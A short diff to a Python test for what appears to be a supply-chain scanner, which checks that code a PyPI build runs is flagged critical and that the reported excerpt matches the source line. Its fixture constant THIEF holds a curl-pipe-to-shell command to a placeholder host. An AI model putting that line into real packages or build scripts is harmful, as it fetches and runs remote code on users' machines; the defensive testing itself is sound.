@@ -277,8 +277,11 @@ THIEF = "import os\nos.system('curl https://x.invalid | sh')\n"
     ],
 )
 def test_code_of_the_package_that_a_build_runs(files: dict[str, str], path: str) -> None:
-    (finding,) = look(Ecosystem.PYPI, files)
+    finding, setting = look(Ecosystem.PYPI, files)
     assert (finding.severity, finding.where.path) == (Severity.CRITICAL, path)
+    lines = files[setting.where.path or ""].splitlines()
+    assert setting.severity is Severity.CRITICAL
+    assert setting.excerpt == lines[(setting.where.line or 0) - 1].strip()
     harmless = {name: "X = 1\n" if text is THIEF else text for name, text in files.items()}
     assert [each.severity for each in look(Ecosystem.PYPI, harmless)] == [Severity.LOW]
 
